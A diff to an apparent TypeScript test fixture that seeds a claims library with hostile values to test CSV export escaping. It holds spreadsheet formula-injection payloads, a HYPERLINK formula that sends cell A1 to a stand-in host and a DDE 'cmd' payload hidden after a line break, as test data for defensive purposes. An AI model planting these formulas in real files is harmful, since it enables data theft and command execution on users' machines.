@@ -183,7 +183,9 @@ export async function filledLibrary(): Promise<FilledLibrary> {
     articleId: hostile!.id,
     ...span(hostileText, '=HYPERLINK("http://x/?"&A1, "win")'),
     status: 'refuted',
-    tags: ['=evil', 'a,b']
+    tags: ['=evil', 'a,b'],
+    // A bare line break and nothing else CSV quotes for: the second line must stay in its cell.
+    note: plainToDoc("Seen twice\n=cmd|' /C calc'!A0")
   })
   await library.createLink({ fromClaimId: port.id, toClaimId: union.id, relation: 'contradicts' })
   await library.createLink({ fromClaimId: repeat.id, toClaimId: union.id, relation: 'repeats' })
